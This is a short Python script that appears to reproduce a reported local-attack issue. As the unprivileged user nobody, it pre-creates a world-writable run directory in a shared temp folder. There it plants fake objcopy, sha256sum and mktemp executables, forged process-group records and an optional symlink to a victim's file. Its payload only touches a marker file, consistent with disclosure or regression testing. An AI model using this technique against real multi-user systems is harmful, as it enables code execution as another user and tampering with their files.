"""Another local user (nobody) prepares a run directory before the victim's
search (issue 51 items 1 and 2), in a shared folder standing in for /tmp.

usage: plant.py RUN_DIR VICTIM_PGID MARKER [LINK_TARGET]
  RUN_DIR      made by nobody, mode 0777, holding:
               standin/objcopy, standin/sha256sum: scripts that touch MARKER
               procs/1 and build.pgid: records naming VICTIM_PGID (a process
               group of the victim's, with its leader's true start time)
  LINK_TARGET  also engine.lock as a link to this file (the victim's)
"""
import os, stat, sys

NOBODY = 65534
run_dir, pgid, marker = sys.argv[1], int(sys.argv[2]), sys.argv[3]
link = sys.argv[4] if len(sys.argv) > 4 else None


def start_time(pid):
    text = open(f"/proc/{pid}/stat").read()
    return text[text.rindex(")") + 2:].split()[19]


record = f"{pgid} {start_time(pgid)}\n"
pid = os.fork()
if pid == 0:
    os.setgid(NOBODY)
    os.setuid(NOBODY)
    os.umask(0)
    os.makedirs(run_dir + "/standin", mode=0o777)
    os.makedirs(run_dir + "/procs", mode=0o777)
    for tool in ("objcopy", "sha256sum", "mktemp"):
        path = f"{run_dir}/standin/{tool}"
        with open(path, "w") as f:
            f.write(f"#!/bin/sh\ntouch {marker}\n")
        os.chmod(path, 0o777)
    with open(run_dir + "/procs/1", "w") as f:
        f.write(record)
    with open(run_dir + "/build.pgid", "w") as f:
        f.write(record)
    if link:
        os.symlink(link, run_dir + "/engine.lock")
    os._exit(0)
_, status = os.waitpid(pid, 0)
sys.exit(0 if os.WIFEXITED(status) and os.WEXITSTATUS(status) == 0 else 1)
